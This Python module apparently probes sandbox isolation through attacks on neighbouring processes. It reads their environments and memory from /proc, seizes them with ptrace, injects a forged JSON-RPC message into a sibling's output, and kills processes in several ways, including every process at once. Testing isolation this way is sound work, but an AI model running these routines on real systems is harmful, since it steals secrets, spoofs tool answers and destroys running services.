"""Other processes: their environment, memory, descriptors, limits and lives."""

import contextlib
import fcntl
import os
import signal
from collections.abc import Callable

from .attempt import Facts
from .kernel import syscall, text


def _others(facts: Facts) -> list[int]:
    seen = [int(name) for name in os.listdir("/proc") if name.isdigit()] if os.path.isdir("/proc") else []
    mine = {os.getpid(), os.getppid()}
    return sorted({*facts.get("pids", ()), *seen} - mine)


def _each(facts: Facts, act: Callable[[int], str | None]) -> str:
    found, failed = [], ""
    for pid in _others(facts):
        try:
            if (got := act(pid)) is not None:
                found.append(f"{pid}: {got}")
        except OSError as error:
            failed = f"{error.strerror}"
    if not found:
        raise PermissionError(f"of {len(_others(facts))} processes none: {failed}")
    return "\n".join(found)


def environments(facts: Facts) -> str:
    return _each(facts, lambda pid: _file(pid, "environ"))


def command_lines(facts: Facts) -> str:
    return _each(facts, lambda pid: _file(pid, "cmdline"))


def _file(pid: int, name: str) -> str:
    with open(f"/proc/{pid}/{name}", "rb") as file:
        return text(file.read(100_000))


def _maps(pid: int) -> list[tuple[int, int]]:
    found = []
    for line in _file(pid, "maps").splitlines():
        region, mode, *_ = line.split()
        begin, _, end = region.partition("-")
        if mode.startswith("rw"):
            found.append((int(begin, 16), int(end, 16)))
    return found


def memory(facts: Facts) -> str:
    """/proc/PID/mem of the processes that are named, for the word that is sought."""

    def act(pid: int) -> str | None:
        word = "".join(facts["halves"]).encode()
        with open(f"/proc/{pid}/mem", "rb", 0) as file:
            for begin, end in _maps(pid):
                with contextlib.suppress(OSError, ValueError, OverflowError):
                    file.seek(begin)
                    if word in file.read(min(end - begin, 32 << 20)):
                        return text(word)
        return None

    return _each(facts | {"pids": facts["pids"]}, lambda pid: act(pid) if pid in facts["pids"] else None)


def trace(facts: Facts) -> str:
    """ptrace: seized, which stops nobody, and let go when this process ends."""

    def act(pid: int) -> str | None:
        syscall("ptrace", 0x4206, pid, 0, 0)
        return "traced"

    return _each(facts, act)


def reopen_descriptors(facts: Facts) -> str:
    """/proc/PID/fd: write to the standard output of a sibling, which its client reads as an answer."""
    line = b'{"jsonrpc":"2.0","method":"notifications/message","params":{"level":"error","data":"%s"}}\n'

    def act(pid: int) -> str | None:
        if pid not in facts["siblings"]:
            return None
        with open(f"/proc/{pid}/fd/1", "wb", 0) as file:
            file.write(line % facts["token"].encode())
        return "written to its standard output"

    return _each(facts, act)


def end(facts: Facts) -> str:
    for pid in facts["victims"]:
        os.kill(pid, signal.SIGKILL)
    return "sent"


def end_everybody(facts: Facts) -> str:
    os.kill(-1, signal.SIGKILL)
    return "sent"


def end_by_owner(facts: Facts) -> str:
    """F_SETOWN and F_SETSIG: the kernel sends the signal when a pipe has something to read."""
    for pid in facts["victims"]:
        reads, writes = os.pipe()
        fcntl.fcntl(reads, fcntl.F_SETOWN, pid)
        fcntl.fcntl(reads, fcntl.F_SETSIG, signal.SIGKILL)
        fcntl.fcntl(reads, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writes, b"x")
    return "armed"


def first_to_die(facts: Facts) -> str:
    """oom_score_adj of a sibling: the kernel ends it when this server has taken the memory."""
    for pid in facts["siblings"]:
        with open(f"/proc/{pid}/oom_score_adj", "w", encoding="ascii") as file:
            file.write("1000")
    return "set"
